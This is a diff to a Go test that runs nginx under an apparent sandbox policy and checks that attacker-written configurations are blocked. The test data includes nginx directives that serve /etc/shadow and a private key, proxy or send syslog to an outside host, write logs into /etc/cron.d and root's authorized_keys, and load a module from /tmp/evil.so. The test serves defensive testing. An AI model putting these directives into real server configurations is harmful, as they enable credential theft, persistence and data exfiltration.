@@ -4,6 +4,8 @@ package servers
 
 import (
 	"bytes"
+	"cmp"
+	"errors"
 	"fmt"
 	"io"
 	"net"
@@ -12,7 +14,6 @@ import (
 	"strings"
 	"syscall"
 	"testing"
-	"time"
 )
 
 // nginx is Debian's, with its own configuration and one site more: files, uploads, and an application behind it.
@@ -24,11 +25,12 @@ type nginx struct {
 }
 
 const (
-	nginxSite = "/etc/nginx/sites-enabled/vigie"
-	nginxRoot = "/var/www/site"
+	nginxSite   = "/etc/nginx/sites-enabled/vigie"
+	nginxRoot   = "/var/www/site"
+	nginxErrors = "/var/log/nginx/error.log"
 )
 
-func (n *nginx) config(more string) string {
+func (n *nginx) config() string {
 	return `log_format timed '$remote_addr "$request" $status $request_time';
 server {
 	listen 8080;
@@ -41,7 +43,7 @@ server {
 	location /app/ { proxy_pass http://` + n.app + `/; proxy_buffers 2 4k; proxy_buffer_size 4k; proxy_busy_buffers_size 4k; }
 	location /upload/ { root /srv; dav_methods PUT DELETE; create_full_put_path on; }
 }
-` + more
+`
 }
 
 func newNginx(t *testing.T, s *site, u *unit) *nginx {
@@ -60,7 +62,7 @@ func newNginx(t *testing.T, s *site, u *unit) *nginx {
 	s.put("/etc/nginx/sites-enabled/default", readFile(t, "/etc/nginx/sites-available/default"), 0o644)
 	s.put("/var/www/html/index.html", []byte("welcome\n"), 0o644)
 	s.put(nginxRoot+"/index.html", []byte("hello\n"), 0o644)
-	s.put(nginxSite, []byte(n.config("")), 0o644)
+	s.put(nginxSite, []byte(n.config()), 0o644)
 	s.own(accountOf(t, "www-data"), "/srv/upload")
 	return n
 }
@@ -134,7 +136,7 @@ func (n *nginx) load(label string) {
 			s.put(nginxRoot+"/images/"+dir+"-"+label+"/"+w+".png", bytes.Repeat([]byte{1}, 3000), 0o644)
 		}
 	}
-	s.put(nginxRoot+"/download/"+label+".bin", bytes.Repeat([]byte("data"), 1<<20), 0o644)
+	s.put(nginxRoot+"/download/release.bin", bytes.Repeat([]byte(label), 1<<20), 0o644)
 
 	round := func() {
 		n.t.Helper()
@@ -150,7 +152,7 @@ func (n *nginx) load(label string) {
 			must(n.ask("DELETE", "8080", "/upload/"+w+"-"+label+".txt", nil, 204))
 		}
 		must(n.ask("GET", "80", "/", nil, 200))
-		must(n.ask("GET", "8080", "/download/"+label+".bin", nil, 200))
+		must(n.ask("GET", "8080", "/download/release.bin", nil, 200))
 		must(n.ask("POST", "8080", "/app/form", bytes.Repeat([]byte(label), 10_000), 200))
 		must(n.ask("GET", "8080", "/app/large", nil, 200))
 		must(n.ask("POST", "8080", "/index.html", []byte("x"), 405))
@@ -168,67 +170,82 @@ func (n *nginx) load(label string) {
 	await(n.t, "the access log to be written", func() bool { return strings.Contains(s.text("/var/log/nginx/site.log"), label) })
 }
 
-// misconfigure has nginx take a configuration that an attacker wrote, and asks for something.
-func (n *nginx) misconfigure(more string, then func() error) func() error {
+// misconfigure has nginx take a configuration in which an attacker has put text before what is in a file of it, or in the
+// place of instead, and asks for something then.
+func (n *nginx) misconfigure(file, text, instead string, then func() error) func() error {
 	return func() error {
-		n.unit.site.put(nginxSite, []byte(n.config(more)), 0o644)
+		s := n.unit.site
+		real := s.text(file)
+		before := len(s.text(nginxErrors))
+		changed := text + real
+		if instead != "" {
+			changed = strings.Replace(real, instead, text, 1)
+		}
+		s.put(file, []byte(changed), 0o644)
 		defer func() {
-			n.unit.site.put(nginxSite, []byte(n.config("")), 0o644)
-			if err := n.signal("reload"); err != nil {
-				n.t.Errorf("nginx does not take its own configuration back: %v", err)
-			}
+			s.put(file, []byte(real), 0o644)
+			n.hangUp()
 			await(n.t, "nginx to serve as before", func() bool { return n.serves() == nil })
 		}()
-		if err := n.signal("reload"); err != nil {
+		n.hangUp()
+		var err error
+		await(n.t, "nginx to take the configuration or to say why not", func() bool {
+			if _, why, refused := strings.Cut(s.text(nginxErrors)[before:], "[emerg]"); refused {
+				err = errors.New(firstLine(why))
+				return true
+			}
+			_, err = n.visit("/up")
+			return err == nil
+		})
+		if err != nil || then == nil {
 			return err
-		}
-		if then == nil {
-			return n.settled()
 		}
 		return then()
 	}
 }
 
-// settled waits until the master has taken a configuration or has said why it does not: then that is the error.
-func (n *nginx) settled() error {
-	return nil
+// hangUp tells the master to read its configuration.
+func (n *nginx) hangUp() {
+	n.t.Helper()
+	if err := n.main.cmd.Process.Signal(syscall.SIGHUP); err != nil {
+		n.t.Fatalf("tell nginx to read its configuration: %v", err)
+	}
 }
 
 // evil is a server of an attacker's configuration that answers on the port that nginx has anyway.
 func evil(text string) string {
-	return "server { listen 8080; server_name evil; " + text + " }\n"
+	return "server { listen 8080; server_name evil; location /up { return 200 up; } " + text + " }\n"
 }
 
-// visit asks the attacker's server until it is there: a reload takes a moment.
-func (n *nginx) visit(url string) func() error {
-	return func() error {
-		client := n.unit.site.client()
-		defer client.CloseIdleConnections()
-		var text string
-		var status int
-		for end := time.Now().Add(deadline); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
-			req, err := http.NewRequest("GET", "http://127.0.0.1:8080"+url, nil)
-			if err != nil {
-				return err
-			}
-			req.Host = "evil"
-			resp, err := client.Do(req)
-			if err != nil {
-				return err
-			}
-			b, err := io.ReadAll(resp.Body)
-			resp.Body.Close()
-			if err != nil {
-				return err
-			}
-			if text, status = string(b), resp.StatusCode; status != http.StatusNotFound {
-				break
-			}
-		}
-		if status == http.StatusOK {
-			return nil
-		}
-		return fmt.Errorf("%d %s", status, text)
+// visit asks the attacker's server. Error: it does not answer with 200.
+func (n *nginx) visit(url string) (text string, err error) {
+	client := n.unit.site.client()
+	defer client.CloseIdleConnections()
+	req, err := http.NewRequest("GET", "http://127.0.0.1:8080"+url, nil)
+	if err != nil {
+		return "", err
+	}
+	req.Host = "evil"
+	resp, err := client.Do(req)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+	b, err := io.ReadAll(resp.Body)
+	if err == nil && resp.StatusCode != http.StatusOK {
+		err = errors.New(resp.Status)
+	}
+	return string(b), err
+}
+
+// loot visits a page that only the attacker's configuration has; workers with an older one say that it is not there.
+func (n *nginx) loot(url string) func() error {
+	return func() (err error) {
+		await(n.t, "a worker with the new configuration", func() bool {
+			_, err = n.visit(url)
+			return err == nil || !strings.HasPrefix(err.Error(), "404")
+		})
+		return err
 	}
 }
 
@@ -241,12 +258,27 @@ func TestNginx(t *testing.T) {
 	g := &siege{agent: a, site: s, unit: u, server: n, binary: "/usr/sbin/nginx", policy: "nginx",
 		traps: setTraps(t, s, elsewhere+":8888", elsewhere+":53", elsewhere+":514", bystander)}
 	besiege(t, g)
+	serve := func(url, location string) func() error {
+		return n.misconfigure(nginxSite, evil("location "+url+" { "+location+" }"), "", n.loot(url))
+	}
+	written := func(name string) func() bool { return func() bool { return s.text(name) != "" } }
+	s.put("/tmp/evil.so", readFile(t, program(t, "implant")), 0o755)
 	g.attack(
-		attack{"serve /etc/shadow", n.misconfigure(evil("location /s { alias "+shadow+"; }"), n.visit("/s")), "read", shadow, nil},
-		attack{"serve a private key", n.misconfigure(evil("location /k { alias "+secret+"; }"), n.visit("/k")), "read", secret, nil},
-		attack{"proxy to another host", n.misconfigure(evil("location /p { proxy_pass http://"+elsewhere+":8888/; }"), n.visit("/p")), "connect", elsewhere + ":80", nil},
-		attack{"proxy to another port", n.misconfigure(evil("location /p { proxy_pass http://"+bystander+"/; }"), n.visit("/p")), "connect", bystander, nil},
-		attack{"ask a DNS server", n.misconfigure(evil("resolver "+elsewhere+"; resolver_timeout 1s; location /d { set $to http://evil.example; proxy_pass $to; }"), n.visit("/d")), "connect", elsewhere + ":53", nil},
+		attack{"serve /etc/shadow", serve("/shadow", "alias "+shadow+";"), "read", shadow, nil},
+		attack{"serve a private key", serve("/key", "alias "+secret+";"), "read", secret, nil},
+		attack{"proxy to another host", serve("/host", "proxy_pass http://"+elsewhere+":8888/;"), "connect", elsewhere + ":8888", nil},
+		attack{"proxy to another port", serve("/port", "proxy_pass http://"+bystander+"/;"), "connect", bystander, nil},
+		attack{"ask a DNS server", serve("/name", "resolver "+elsewhere+"; resolver_timeout 1s; set $to evil.example; proxy_pass http://$to;"), "connect", elsewhere + ":53", nil},
+		attack{"log to another host", n.misconfigure(nginxSite, evil("access_log syslog:server="+elsewhere+";"), "", func() error {
+			_, err := n.visit("/up")
+			return cmp.Or(err, errors.New("whether it came is seen there"))
+		}), "connect", elsewhere + ":514", nil},
+		attack{"listen on another port", n.misconfigure(nginxSite, evil("listen 8081;"), "", nil), "bind", "0.0.0.0:8081", nil},
+		attack{"log into cron.d", n.misconfigure(nginxSite, evil("access_log /etc/cron.d/nginx;"), "", nil), "write", "/etc/cron.d/nginx", written("/etc/cron.d/nginx")},
+		attack{"log errors into authorized_keys", n.misconfigure(nginxSite, evil("error_log /root/.ssh/authorized_keys;"), "", nil), "write", "/root/.ssh/authorized_keys", written("/root/.ssh/authorized_keys")},
+		attack{"read /etc/shadow as a configuration", n.misconfigure(nginxSite, evil("include "+shadow+";"), "", nil), "read", shadow, nil},
+		attack{"load a module", n.misconfigure("/etc/nginx/nginx.conf", "load_module /tmp/evil.so;\n", "", nil), "read", "/tmp/evil.so", nil},
+		attack{"write the pid to another file", n.misconfigure("/etc/nginx/nginx.conf", "pid /tmp/evil.pid;", "pid /run/nginx.pid;", nil), "read|write", "/tmp/evil.pid", written("/tmp/evil.pid")},
 	)
 	g.inside(n.main.cmd.Process.Pid, "/var/log/nginx/site.log")
 	g.report(20)
